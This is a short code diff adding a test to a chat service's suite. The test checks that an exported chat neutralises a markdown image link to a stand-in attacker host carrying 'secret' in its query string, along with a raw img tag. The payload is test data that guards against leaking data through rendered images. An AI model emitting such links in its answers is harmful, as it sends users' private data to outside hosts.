@@ -608,3 +608,9 @@ async def test_a_chat_is_exported(service: Service, tmp_path: Path) -> None:
         "messages": await service.messages(),
     }
     assert (await service.alice.get(export, params={"format": "html"})).status_code == 422
+
+
+async def test_an_exported_chat_loads_no_image(service: Service) -> None:
+    await service.answered("Why?", "Because ![a](https://evil.example/?q=secret) <img src=x>.")
+    exported = await service.alice.get(f"/api/chats/{service.chat}/export")
+    assert "Because ! [a](https://evil.example/?q=secret) < img src=x>." in exported.text
